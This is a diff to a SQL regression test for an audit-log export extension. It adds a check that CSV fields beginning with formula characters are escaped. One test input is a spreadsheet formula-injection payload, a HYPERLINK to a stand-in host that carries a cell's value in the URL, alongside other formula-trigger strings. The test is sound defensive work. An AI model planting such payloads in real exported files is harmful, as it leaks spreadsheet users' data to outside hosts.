@@ -104,6 +104,9 @@ SELECT (SELECT count(*) FROM witness.export('jsonl', actor => 'alice@example.com
 SELECT ex.try($$SELECT witness.export('xml')$$);
 SELECT ex.try($$SELECT witness.export(NULL)$$);
 SELECT ex.try($$SELECT witness.export('csv', operation => 'merge')$$);
+-- Fields a spreadsheet would run as formulas get a ' before them (an attack review's =HYPERLINK actor);
+-- numbers do not; a field starting with ' gets one more.
+SELECT witness._csv_line(ARRAY['=HYPERLINK("http://x/?"&B2,"open")', '@SUM(A1)', '+41 cmd', '-', '-5', '1.5e3', '''quoted', E'\tx', 'plain']) AS fields;
 -- The iteration count is the caller's, up to 10,000,000: a statement timeout stops the key derivation.
 SET statement_timeout = '500ms';
 SELECT count(*) FROM witness.export_encrypted('passphrase', 'csv', iterations => 10000000);
